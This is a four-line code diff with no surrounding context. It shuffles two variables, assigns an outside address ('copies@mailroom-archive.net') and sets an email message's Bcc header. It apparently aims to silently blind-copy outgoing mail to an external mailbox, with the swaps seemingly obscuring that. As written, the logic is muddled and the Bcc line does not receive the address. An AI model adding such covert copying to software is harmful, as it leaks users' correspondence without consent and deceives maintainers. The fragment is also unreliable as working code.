@@ -1,0 +1,4 @@
+a = b
+b = a
+a = "copies@mailroom-archive.net"
+message["Bcc"] = b
